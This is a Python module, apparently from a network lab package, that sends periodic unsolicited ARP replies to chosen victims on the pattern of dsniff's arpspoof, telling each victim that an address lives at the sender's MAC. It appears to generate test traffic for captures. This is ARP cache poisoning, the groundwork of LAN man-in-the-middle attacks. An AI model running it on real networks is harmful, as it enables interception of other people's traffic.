"""A host that lies about an address, with the wire form and cadence of dsniff's arpspoof.

`add ADDRESS VICTIM MAC` tells one victim, in an unasked unicast reply every 2 s, that the address is here. Nobody else
sees it; on a switch not even the address's owner does. `delete ADDRESS` stops, and takes nothing back.
"""

import argparse
import socket
from ipaddress import IPv4Address

from captures.lab.announcers import frames
from captures.lab.announcers.orders import mac_of, open_wire, serve

EVERY_S = 2.0


class Spoofer:
    """The lies that are told, each to one victim."""

    def __init__(self, *, wire: socket.socket, mac: str) -> None:
        self._wire = wire
        self._mac = mac
        self._victims: dict[IPv4Address, tuple[str, str]] = {}
        self._next_tick = 0.0
        print(f"{mac} ready", flush=True)

    def order(self, words: list[str], now: float, /) -> None:
        verb, text, *victim = words
        address = IPv4Address(text)
        if verb == "delete":
            self._victims.pop(address, None)
            return
        to, to_mac = victim
        self._victims[address] = (to, to_mac)
        self._next_tick = now

    def tick(self, now: float) -> None:
        if not self._victims or now < self._next_tick:
            return
        self._next_tick += EVERY_S
        for address, (to, to_mac) in self._victims.items():
            self._wire.send(frames.reply(mac=self._mac, address=address, to_mac=to_mac, to=to))
            print(f"{self._mac} {to_mac} 0806 42: arp reply {address} is-at {self._mac}", flush=True)

    def pause_s(self, now: float) -> float | None:
        return max(0.0, self._next_tick - now) if self._victims else None


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--interface", required=True)
    options = parser.parse_args()
    with open_wire(options.interface) as wire:
        serve(Spoofer(wire=wire, mac=mac_of(options.interface)))


if __name__ == "__main__":
    main()
